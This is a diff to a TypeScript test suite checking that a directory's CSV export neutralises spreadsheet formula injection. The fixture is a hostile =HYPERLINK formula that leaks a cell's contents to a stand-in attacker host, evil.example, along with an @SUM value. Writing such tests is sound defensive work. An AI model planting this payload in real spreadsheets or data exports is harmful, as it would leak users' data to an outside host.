@@ -206,13 +206,14 @@ describe('names that a spreadsheet would run as formulas', () => {
   const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
 
   it('are written as text in every CSV of the export', () => {
-    const files = texts(exportHsdsPackage([makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' })], { title: 'Test Directory' }).zip);
+    applySeed(t2.db, [makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' }), RECORDS[2]!]);
+    const files = texts(exportHsdsPackage(listResources(t2.db), { title: 'Test Directory' }).zip);
     const all = cells(files);
-    for (const cell of all) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const cell of all) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(all).toContain(`'${HOSTILE}`);
     expect(all).toContain("'@SUM(1+1)");
     // Numbers stay numbers.
-    expect(cells(texts(exportHsdsPackage([RECORDS[2]!], { title: 'Test Directory' }).zip))).toContain('-82.9988');
+    expect(all).toContain('-82.9988');
   });
 
   it('lose their formula characters when imported', async () => {
